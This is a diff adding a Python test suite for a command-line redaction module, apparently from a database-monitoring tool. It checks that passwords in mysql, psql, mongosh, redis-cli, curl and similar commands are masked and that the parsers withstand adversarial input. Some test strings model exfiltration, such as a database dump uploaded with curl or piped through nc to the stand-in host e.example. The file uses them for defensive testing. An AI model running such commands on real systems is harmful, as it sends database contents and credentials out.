@@ -1,0 +1,323 @@
+"""Redaction: no secret from a command line, history entry or SQL text survives.
+
+Every form named in issue 2 item 3 and the brief is a case; each asserts that
+the secret is gone and that the non-secrets around it (hosts, databases, user
+names, ports, paths) are kept. Hypothesis then embeds random secrets in the
+same templates, and throws arbitrary and adversarial text at every parser.
+"""
+
+from __future__ import annotations
+
+import string
+
+import pytest
+from hypothesis import HealthCheck, assume, given, settings
+from hypothesis import strategies as st
+
+from osq_dbwatch.cmdline import (
+    REDACTED,
+    parse_db_command,
+    parse_transfer_command,
+    redact_cmdline,
+    redact_text,
+    sql_dump_intent,
+)
+
+SECRET = "Zq7Secret9x"
+
+# (command line with {s} for the secret, strings that must survive)
+CMDLINE_CASES: list[tuple[str, tuple[str, ...]]] = [
+    # -pSECRET: the mysql family only
+    ("mysql -u root -p{s} app", ("mysql", "-u root", "app")),
+    ("mysqldump -uroot -p{s} --all-databases --result-file=/tmp/all.sql", ("-uroot", "/tmp/all.sql")),
+    ("mariadb -h db1 -p{s}", ("db1",)),
+    ("mariadb-dump -h db1 -P 3307 -p{s} shop", ("db1", "3307", "shop")),
+    ("mysql -h db1 -u root -p'{s}' app", ("db1", "root", "app")),
+    ("mydumper -h db1 -u bob -p {s} -B shop -o /tmp/dd", ("db1", "bob", "shop", "/tmp/dd")),
+    ("mysqlsh root:{s}@db1:3306", ("root", "db1:3306")),
+    ("mysqlsh --uri root:{s}@db1:3306/shop", ("root", "db1:3306/shop")),
+    ("mysqlsh --uri=root:{s}@db1:3306", ("root", "db1")),
+    # --password= in every tool
+    ("psql --password={s} -h db1 sales", ("db1", "sales")),
+    ("mysql --password={s} -h db1", ("db1",)),
+    ("mongodump --password={s} --out /tmp/d", ("/tmp/d",)),
+    ("mongosh -u adm -p {s} db1", ("adm", "db1")),
+    ("mongosh --username adm --password {s} db1/admin", ("adm", "db1/admin")),
+    # environment
+    ("PGPASSWORD={s} psql -h db1 -U bob sales", ("db1", "bob", "sales")),
+    ("env MYSQL_PWD={s} mysql -h db1", ("db1",)),
+    ("REDISCLI_AUTH={s} redis-cli -h r1", ("r1",)),
+    ("sudo -u postgres env PGPASSWORD={s} psql -h db1 sales", ("postgres", "db1", "sales")),
+    # URIs with credentials
+    ("psql postgresql://bob:{s}@db1:5432/sales", ("bob", "db1:5432/sales")),
+    ("pg_dump -d postgres://bob:{s}@db1/sales -f /tmp/s.sql", ("bob", "db1", "/tmp/s.sql")),
+    ("mongosh --uri mongodb://adm:{s}@db1:27017/admin", ("adm", "db1:27017/admin")),
+    ("mongodump --uri=mongodb+srv://adm:{s}@cluster0.example.net/app --out /tmp/d", ("cluster0.example.net", "/tmp/d")),
+    ("redis-cli -u redis://default:{s}@r1:6379/0 --rdb /tmp/d.rdb", ("r1:6379", "/tmp/d.rdb")),
+    ("cockroach sql --url postgresql://root:{s}@crdb:26257/bank", ("crdb:26257/bank",)),
+    ("usql pg://bob:{s}@db1/sales", ("bob", "db1/sales")),
+    # libpq connection strings
+    ("psql host=db1 password={s} dbname=sales", ("db1", "sales")),
+    # SQL in -c / -e
+    ("mysql -e CREATE USER 'bob'@'%' IDENTIFIED BY '{s}'", ("bob",)),
+    ("mysql -e ALTER USER bob IDENTIFIED WITH mysql_native_password BY '{s}'", ("bob", "mysql_native_password")),
+    ("mysql -e SET PASSWORD FOR bob = PASSWORD('{s}')", ("bob",)),
+    ("psql -h db1 -c ALTER USER bob PASSWORD '{s}'", ("db1", "bob")),
+    ("psql -h db1 -c ALTER ROLE bob WITH LOGIN ENCRYPTED PASSWORD '{s}'", ("db1", "bob", "LOGIN")),
+    ("psql -c CREATE ROLE app LOGIN PASSWORD '{s}' VALID UNTIL 'infinity'", ("app", "infinity")),
+    # redis
+    ("redis-cli -h r1 -a {s} keys *", ("r1", "keys")),
+    ("redis-cli -h r1 --pass {s}", ("r1",)),
+    ("redis-cli -h r1 --user admin --pass {s} --rdb /tmp/d.rdb", ("r1", "admin", "/tmp/d.rdb")),
+    # mongosh helpers inside --eval
+    ("mongosh db1/admin --eval db.auth('adm', '{s}')", ("db1/admin", "adm")),
+    ('mongosh --eval db.createUser({{user:"app",pwd:"{s}",roles:[]}})', ("app", "roles")),
+    # SQL Server, Oracle
+    ("sqlcmd -S sql1 -U sa -P {s} -Q SELECT 1", ("sql1", "sa", "SELECT 1")),
+    ("sqlcmd -S sql1 -U sa -P{s} -d app", ("sql1", "sa", "app")),
+    ("bcp dbo.users out /tmp/u.dat -S sql1 -U sa -P {s}", ("/tmp/u.dat", "sql1", "sa")),
+    ("sqlplus scott/{s}@orcl", ("scott", "orcl")),
+    ("sqlplus -s scott/{s}@//ora1:1521/orclpdb @/tmp/q.sql", ("scott", "ora1:1521/orclpdb", "/tmp/q.sql")),
+    ("expdp system/{s}@orcl dumpfile=x.dmp directory=DATA_PUMP_DIR", ("system", "x.dmp")),
+    # other clients
+    ("cqlsh -u cassandra -p {s} cass1 9042", ("cassandra", "cass1", "9042")),
+    ("clickhouse client --host ch1 --password {s}", ("ch1",)),
+    ("clickhouse-client --password={s} --query SELECT 1", ("SELECT 1",)),
+    ("influx query -t {s} --org acme", ("acme",)),
+    ("isql MyDSN bob {s}", ("MyDSN", "bob")),
+    # transfer tools
+    ("curl -u bob:{s} https://e.example/up", ("bob", "e.example")),
+    ("curl --user bob:{s} -T /tmp/x.sql ftp://e.example/", ("bob", "/tmp/x.sql", "e.example")),
+    ("curl -H Authorization: Bearer {s} https://e.example", ("e.example",)),
+    ("curl -H 'Authorization: Basic {s}' https://e.example", ("e.example",)),
+    ("curl -H X-Api-Key: {s} https://e.example", ("e.example",)),
+    ("curl https://e.example/upload?token={s}", ("e.example",)),
+    ("wget --password={s} --user=bob http://e.example/", ("bob", "e.example")),
+    ("wget --http-password {s} http://e.example/", ("e.example",)),
+    ("openssl enc -aes-256-cbc -in /tmp/x.sql -out /tmp/x.enc -k {s}", ("/tmp/x.sql", "/tmp/x.enc")),
+    ("openssl enc -in /tmp/x.sql -pass pass:{s}", ("/tmp/x.sql",)),
+    ("zip -P {s} /tmp/x.zip /tmp/x.sql", ("/tmp/x.zip", "/tmp/x.sql")),
+    ("7z a -p{s} /tmp/x.7z /tmp/x.sql", ("/tmp/x.7z", "/tmp/x.sql")),
+    ("sshpass -p {s} scp /tmp/x.sql bob@e.example:", ("/tmp/x.sql", "bob@e.example")),
+    # nested in shells: the tool rules follow the program named last
+    ("sh -c mysqldump -u root -p{s} app > /tmp/a.sql", ("root", "app", "/tmp/a.sql")),
+    ('sh -c "mysqldump -u root -p{s} app > /tmp/a.sql"', ("root", "/tmp/a.sql")),
+    ("bash -c psql -h db1; mysql -p{s} -h db2", ("db1", "db2")),
+    # a secret glued to a shell separator is still the tool's
+    ("sh -c mysqldump -u root -p{s}; curl -T /tmp/a.sql https://e.example", ("curl", "/tmp/a.sql", "e.example")),
+    ("sh -c redis-cli -a {s}| nc e.example 4444", ("nc", "e.example", "4444")),
+    ("sh -c PGPASSWORD={s}; psql -h db1", ("psql", "db1")),
+]
+
+
+@pytest.mark.parametrize(("template", "keep"), CMDLINE_CASES)
+def test_cmdline_secret_removed_context_kept(template: str, keep: tuple[str, ...]) -> None:
+    line = template.format(s=SECRET)
+    out = redact_cmdline(line)
+    assert SECRET not in out
+    assert REDACTED in out
+    for word in keep:
+        assert word in out, f"{word!r} lost from {out!r}"
+
+
+HISTORY_CASES: list[tuple[str, tuple[str, ...]]] = [
+    ("ALTER USER bob WITH PASSWORD '{s}';", ("bob",)),
+    ("CREATE USER 'app'@'10.%' IDENTIFIED BY '{s}';", ("app",)),
+    ("GRANT ALL ON *.* TO 'app'@'%' IDENTIFIED BY '{s}';", ("GRANT ALL", "app")),
+    ("AUTH {s}", ("AUTH",)),
+    ("AUTH default {s}", ("AUTH",)),
+    ("auth {s}", ()),
+    ("db.auth('adm', '{s}')", ("adm",)),
+    ('db.auth("adm", "{s}")', ("adm",)),
+    ('db.createUser({{ user: "app", pwd: "{s}", roles: ["read"] }})', ("app", "read")),
+    ("db.changeUserPassword('app', passwordPrompt()) ; x = {{ password: '{s}' }}", ("app",)),
+    ("\\connect postgresql://bob:{s}@db1/sales", ("bob", "db1/sales")),
+    ("CONFIG SET requirepass {s}", ()),
+    ("config set masterauth={s}", ()),
+    ("SET PASSWORD = PASSWORD('{s}');", ()),
+]
+
+
+@pytest.mark.parametrize(("template", "keep"), HISTORY_CASES)
+def test_text_secret_removed(template: str, keep: tuple[str, ...]) -> None:
+    out = redact_text(template.format(s=SECRET))
+    assert SECRET not in out
+    for word in keep:
+        assert word in out
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "psql -p 5432 -h db1 -U bob sales",  # -p is psql's port
+        "psql -h db1 -p5433 sales",
+        "redis-cli -h r1 -p 6380",
+        "pg_dump -p 5432 -f /tmp/x.sql sales",
+        "mysql -u root -p app",  # bare -p prompts; `app` is the database
+        "mysql -P 3307 -h db1 app",
+        "mysql --password sales",  # mysql: --password without = prompts; sales is the database
+        "psql -W -U bob sales",
+        "curl -u bob https://e.example",  # curl prompts for the password
+        "scp /tmp/x.sql bob@e.example:/in/",
+        "ssh -p 2222 bob@e.example",
+        "tar czf /tmp/x.tgz /tmp/x.sql",
+        "mongosh db1:27017/admin",
+        "ls -la /var/lib/postgresql",
+        "select * from users where id = 1",
+    ],
+)
+def test_non_secrets_unchanged(line: str) -> None:
+    assert redact_cmdline(line) == line
+    assert redact_text(line) == line
+
+
+def test_spacing_is_kept() -> None:
+    assert redact_cmdline("mysql  -u\troot   -pX1  app") == "mysql  -u\troot   -p****  app"
+
+
+def test_redact_is_idempotent() -> None:
+    for template, _ in CMDLINE_CASES:
+        once = redact_cmdline(template.format(s=SECRET))
+        assert redact_cmdline(once) == once
+
+
+# ---------------------------------------------------------------------------
+# Property tests: random secrets never survive
+
+# Characters a password can hold on a command line (no whitespace; characters
+# that end a URI userinfo or a quoted string are left to the per-template set).
+_SAFE = string.ascii_letters + string.digits + "!#%+,-.=?^_~"
+_URI_SAFE = string.ascii_letters + string.digits + "!$%*+,-.;=_~"
+
+
+def _secret(alphabet: str) -> st.SearchStrategy[str]:
+    # a leading and trailing letter keep the secret from starting an option
+    return st.builds(lambda a, b, c: a + b + c, st.sampled_from("QXZ"), st.text(alphabet, min_size=4, max_size=40), st.sampled_from("QXZ"))
+
+
+@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow])
+@given(case=st.sampled_from(CMDLINE_CASES), secret=_secret(_SAFE))
+def test_random_secret_never_survives_cmdline(case: tuple[str, tuple[str, ...]], secret: str) -> None:
+    template, _ = case
+    if "://" in template or "@" in template.split("{s}", 1)[1][:1]:
+        assume(all(c not in secret for c in "@/:?#"))
+    assume(secret not in template.replace("{s}", ""))
+    assume("'" not in secret and '"' not in secret)
+    out = redact_cmdline(template.format(s=secret))
+    assert secret not in out
+
+
+@settings(max_examples=60)
+@given(case=st.sampled_from(HISTORY_CASES), secret=_secret(_SAFE))
+def test_random_secret_never_survives_text(case: tuple[str, tuple[str, ...]], secret: str) -> None:
+    template, _ = case
+    if "://" in template:
+        assume(all(c not in secret for c in "@/:?#"))
+    assume(secret not in template.replace("{s}", ""))
+    out = redact_text(template.format(s=secret))
+    assert secret not in out
+
+
+@settings(max_examples=60)
+@given(secret=_secret(_URI_SAFE), tool=st.sampled_from(["psql", "mongosh", "redis-cli", "pgcli", "usql", "mycli"]))
+def test_random_uri_password_never_survives(secret: str, tool: str) -> None:
+    assume("://" not in secret)
+    line = f"{tool} scheme://someone:{secret}@db1.example:5432/app"
+    out = redact_cmdline(line)
+    assert secret not in out
+    assert "db1.example:5432/app" in out
+
+
+@settings(max_examples=60)
+@given(secret=_secret(_SAFE + ";&|"))
+def test_secret_with_shell_separators_never_survives(secret: str) -> None:
+    # /proc argv keeps `;` inside one argument; audit cmdlines join with spaces
+    for line in (f"mysql -u root -p{secret} app", f"psql --password={secret} db", f"PGPASSWORD={secret} psql"):
+        assert secret not in redact_cmdline(line)
+
+
+# ---------------------------------------------------------------------------
+# Robustness: never raise, never hang
+
+
+def _all_parsers(text: str) -> None:
+    redact_cmdline(text)
+    redact_text(text)
+    sql_dump_intent(text)
+    argv = text.split()
+    for path in ("/usr/bin/psql", "/usr/bin/mariadb", "/usr/bin/mongosh", "/usr/bin/sqlcmd", "/usr/bin/sqlplus", "/usr/bin/redis-cli"):
+        parse_db_command(path, [path.rsplit("/", 1)[1], *argv])
+        parse_db_command(path, [path.rsplit("/", 1)[1], "-c", text])
+    for path in ("/usr/bin/curl", "/usr/bin/tar", "/usr/bin/nc", "/usr/bin/socat", "/usr/bin/aws", "/usr/bin/scp"):
+        parse_transfer_command(path, [path.rsplit("/", 1)[1], *argv])
+    parse_db_command("", argv)
+    parse_transfer_command("", argv)
+
+
+@settings(max_examples=200)
+@given(text=st.text(max_size=400))
+def test_parsers_never_raise_on_text(text: str) -> None:
+    _all_parsers(text)
+
+
+@settings(max_examples=200)
+@given(raw=st.binary(max_size=400))
+def test_parsers_never_raise_on_undecodable_bytes(raw: bytes) -> None:
+    _all_parsers(raw.decode("utf-8", "surrogateescape"))
+    _all_parsers(raw.replace(b"\0", b" ").decode("utf-8", "surrogateescape"))
+
+
+_WORDS = ["psql", "mysql", "-p", "-pX", "-h", "-c", "--password=", "://", "@", ":", "copy", "to", "\\copy", "into",
+          "outfile", "identified", "by", "'", '"', "password", "auth", "AUTH", ";", "|", "&&", "$(", "`", "sh", "-c",
+          "curl", "-T", "-F", "@/tmp/x", "sudo", "env", "PGPASSWORD=", "\0", "\n", "\udcff", "db.auth(", "pwd:",
+          "Authorization:", "sqlplus", "a/b@c", "tar", "czf", "nc", "mongosh", "--uri", "x=y", "=", "/"]
+
+
+@settings(max_examples=200)
+@given(words=st.lists(st.sampled_from(_WORDS), max_size=40), seps=st.sampled_from([" ", "", "  ", "\t"]))
+def test_parsers_never_raise_on_token_soup(words: list[str], seps: str) -> None:
+    _all_parsers(seps.join(words))
+
+
+BIG = 100_000
+ADVERSARIAL = {
+    "spaces": " " * BIG,
+    "one-token": "a" * BIG,
+    "nul": "\0" * BIG,
+    "surrogates": (b"\xff\xfe" * (BIG // 2)).decode("utf-8", "surrogateescape"),
+    "password-words": "password" * (BIG // 8),
+    "password-eq": "password=" * (BIG // 9),
+    "password-eq-space": "password= " * (BIG // 10),
+    "scheme": "a://" * (BIG // 4),
+    "scheme-user": "a://b:" * (BIG // 6),
+    "identified": "identified by " * (BIG // 14),
+    "pwd-quote": "pwd:'" * (BIG // 5),
+    "auth": "auth " * (BIG // 5),
+    "authorization": "authorization: " * (BIG // 15),
+    "copy-words": "copy " * (BIG // 5),
+    "copy-to": "copy to " * (BIG // 8),
+    "backslash-copy": "\\copy " * (BIG // 6),
+    "copy-then-a": "\\copy x to '" + "a" * BIG,
+    "into-outfile": "into outfile " * (BIG // 13),
+    "quotes": "'" * BIG,
+    "dash-p": "-p" * (BIG // 2),
+    "mysql-p": "mysql -p" * (BIG // 8),
+    "oracle": "sqlplus " + "a/" * (BIG // 2),
+    "at-colon": "x:" * (BIG // 4) + "@" * (BIG // 4),
+    "semicolons": ";" * BIG,
+    "curl-F": "curl -F @" * (BIG // 9),
+    "newlines": "\n" * BIG,
+}
+
+
+@pytest.mark.parametrize("name", sorted(ADVERSARIAL))
+def test_adversarial_100kb_inputs_complete(name: str) -> None:
+    # No timing assertion: the test finishing at all shows no catastrophic backtracking.
+    text = ADVERSARIAL[name]
+    redact_cmdline(text)
+    redact_text(text)
+    redact_cmdline("mysql " + text)
+    sql_dump_intent(text)
+    parse_db_command("/usr/bin/psql", ["psql", *text.split()[:2000]])
+    parse_db_command("/usr/bin/psql", ["psql", "-c", text])
+    parse_transfer_command("/usr/bin/curl", ["curl", *text.split()[:2000]])
